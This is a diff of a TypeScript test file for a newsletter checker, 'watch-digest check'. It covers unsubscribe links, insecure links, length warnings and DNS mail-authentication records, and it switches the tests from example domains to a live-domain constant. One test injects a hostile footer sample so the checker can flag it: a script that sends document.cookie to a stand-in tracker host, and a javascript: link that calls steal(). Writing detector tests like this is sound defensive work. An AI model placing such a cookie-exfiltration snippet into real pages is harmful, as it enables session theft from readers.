@@ -3,21 +3,25 @@ import type { AddressInfo } from 'node:net';
 import path from 'node:path';
 import dns2 from 'dns2';
 import { afterEach, describe, expect, it } from 'vitest';
-import { PROJECT_ROOT, fixture, item, runCli, weekOf } from '../helpers/fixture.js';
+import { cli } from '../helpers/cli.js';
+import { PROJECT_ROOT, fixture, item, weekOf } from '../helpers/fixture.js';
 import { html, startHttpServer, status } from '../helpers/http.js';
+import { LIVE_DOMAIN } from '../helpers/live-project.js';
 
 const WEEK = '2024-W10';
-const CONFIG = { postalAddress: '1 Example Way', from: { address: 'news@example.org' } };
+// A newsletter ready to go live: no reserved example domain anywhere (those are errors).
+const CONFIG = { postalAddress: '1 Example Way', from: { address: `news@${LIVE_DOMAIN}` }, unsubscribe: { url: `https://unsubscribe.${LIVE_DOMAIN}/u?token={token}` } };
+const liveWeek = () => weekOf('2024-03-06', `www.${LIVE_DOMAIN}`);
 
 async function checked(files: Record<string, string | null>, args: string[] = [], env: NodeJS.ProcessEnv = {}, edit?: (dir: string) => Promise<void>) {
   // A null file is left out of the week.
-  const tree = Object.entries({ ...weekOf(), 'watch-digest.config.json': JSON.stringify(CONFIG), ...files }).filter((entry): entry is [string, string] => entry[1] !== null);
+  const tree = Object.entries({ ...liveWeek(), 'watch-digest.config.json': JSON.stringify(CONFIG), ...files }).filter((entry): entry is [string, string] => entry[1] !== null);
   const dir = await fixture(Object.fromEntries(tree));
   if (edit) {
-    expect((await runCli(['compose', '--week', WEEK], dir)).code).toBe(0);
+    expect((await cli(['compose', '--week', WEEK], dir)).code).toBe(0);
     await edit(dir);
   }
-  const run = await runCli(['check', '--week', WEEK, '--json', ...args], dir, env);
+  const run = await cli(['check', '--week', WEEK, '--json', ...args], dir, env);
   return { run, report: JSON.parse(run.stdout || '{}') as { errors: number; warnings: number; findings: Array<{ level: string; rule: string; message: string }>; notes: string[] }, dir };
 }
 
@@ -29,8 +33,8 @@ describe('watch-digest check', () => {
     expect(run.code).toBe(0);
     expect(report).toMatchObject({ errors: 0, warnings: 0 });
     expect(report.notes).toContain(`${WEEK} was not built yet: composed it first`);
-    const dir = await fixture({ ...weekOf(), 'watch-digest.config.json': JSON.stringify(CONFIG) });
-    const plain = await runCli(['check', '--week', WEEK], dir);
+    const dir = await fixture({ ...liveWeek(), 'watch-digest.config.json': JSON.stringify(CONFIG) });
+    const plain = await cli(['check', '--week', WEEK], dir);
     expect(plain.stdout).toContain(`${WEEK}: 0 errors, 0 warnings`);
   });
 
@@ -48,18 +52,18 @@ describe('watch-digest check', () => {
     const { run, report } = await checked({
       'digests/lead.md': item(
         { kind: 'lead', date: '2024-03-06', title: 'Lead', subject: 'S'.repeat(90), preheader: 'P'.repeat(160) },
-        'See ![](https://example.com/chart.png) and [an old site](http://example.com/old).',
+        `See ![](https://www.${LIVE_DOMAIN}/chart.png) and [an old site](http://www.${LIVE_DOMAIN}/old).`,
       ),
       'digests/state.md': null,
       'digests/news/one.md': null,
       'digests/news/two.md': null,
-      'watch-digest.config.json': JSON.stringify({ from: { address: 'news@example.org' } }),
+      'watch-digest.config.json': JSON.stringify({ ...CONFIG, postalAddress: undefined }),
     });
     expect(run.code).toBe(0);
     expect(rules(report).sort()).toEqual(
       ['warning image-alt', 'warning link', 'warning news', 'warning postal-address', 'warning preheader-length', 'warning state-dept', 'warning subject-length'].sort(),
     );
-    expect(report.findings.find((f) => f.rule === 'link')!.message).toBe('insecure http: link http://example.com/old');
+    expect(report.findings.find((f) => f.rule === 'link')!.message).toBe(`insecure http: link http://www.${LIVE_DOMAIN}/old`);
   });
 
   // Five runs of the CLI: a generous limit for a busy machine.
@@ -68,7 +72,7 @@ describe('watch-digest check', () => {
       await cp(path.join(PROJECT_ROOT, 'templates'), path.join(dir, 'templates'), { recursive: true });
       const footer = path.join(dir, 'templates', 'partials', 'footer.mjml');
       await writeFile(footer, (await readFile(footer, 'utf8')).replace('<a href="{{ placeholders.unsubscribeUrl }}">Unsubscribe</a>', ''));
-      expect((await runCli(['compose', '--week', WEEK], dir)).code).toBe(0);
+      expect((await cli(['compose', '--week', WEEK], dir)).code).toBe(0);
     });
     expect(noLink.run.code).toBe(1);
     expect(rules(noLink.report)).toEqual(['error unsubscribe-link']);
@@ -91,7 +95,7 @@ describe('watch-digest check', () => {
       const footer = path.join(dir, 'templates', 'partials', 'footer.mjml');
       const active = '<mj-raw><script>fetch("https://tracker.example/?" + document.cookie)</script></mj-raw>\n<mj-section><mj-column><mj-text><a href="javascript:void(0)" onmouseover="steal()">More</a></mj-text></mj-column></mj-section>\n';
       await writeFile(footer, active + (await readFile(footer, 'utf8')));
-      expect((await runCli(['compose', '--week', WEEK], dir)).code).toBe(0);
+      expect((await cli(['compose', '--week', WEEK], dir)).code).toBe(0);
     });
     expect(run.code).toBe(1);
     expect(report.findings.filter((f) => f.rule === 'active-content').map((f) => f.message).sort()).toEqual([
@@ -102,7 +106,7 @@ describe('watch-digest check', () => {
   }, 120_000);
 
   it('errors on an unsubscribe URL that is not https', async () => {
-    const { run, report } = await checked({ 'watch-digest.config.json': JSON.stringify({ ...CONFIG, unsubscribe: { url: 'http://example.org/u?t={token}' } }) });
+    const { run, report } = await checked({ 'watch-digest.config.json': JSON.stringify({ ...CONFIG, unsubscribe: { url: `http://unsubscribe.${LIVE_DOMAIN}/u?t={token}` } }) });
     expect(run.code).toBe(1);
     expect(rules(report)).toContain('error unsubscribe-header');
   });
@@ -146,14 +150,14 @@ describe('watch-digest check --dns', () => {
   }
 
   it('reports a missing DMARC record and DKIM key, accepting SPF', async () => {
-    const resolver = await dnsServer({ 'example.org': 'v=spf1 include:_spf.example.net -all' });
+    const resolver = await dnsServer({ [LIVE_DOMAIN]: 'v=spf1 include:_spf.example.net -all' });
     const { run, report } = await checked({}, ['--dns'], { WATCH_DIGEST_DNS_SERVER: resolver, DKIM_SELECTOR: 'wd' });
     expect(run.code).toBe(0);
     expect(rules(report).sort()).toEqual(['warning dkim', 'warning dmarc']);
     const complete = await dnsServer({
-      'example.org': 'v=spf1 -all',
-      '_dmarc.example.org': 'v=DMARC1; p=quarantine',
-      'wd._domainkey.example.org': 'v=DKIM1; k=rsa; p=MIIBIjANBg',
+      [LIVE_DOMAIN]: 'v=spf1 -all',
+      [`_dmarc.${LIVE_DOMAIN}`]: 'v=DMARC1; p=quarantine',
+      [`wd._domainkey.${LIVE_DOMAIN}`]: 'v=DKIM1; k=rsa; p=MIIBIjANBg',
     });
     const ok = await checked({}, ['--dns'], { WATCH_DIGEST_DNS_SERVER: complete, DKIM_SELECTOR: 'wd' });
     expect(ok.report.findings).toEqual([]);
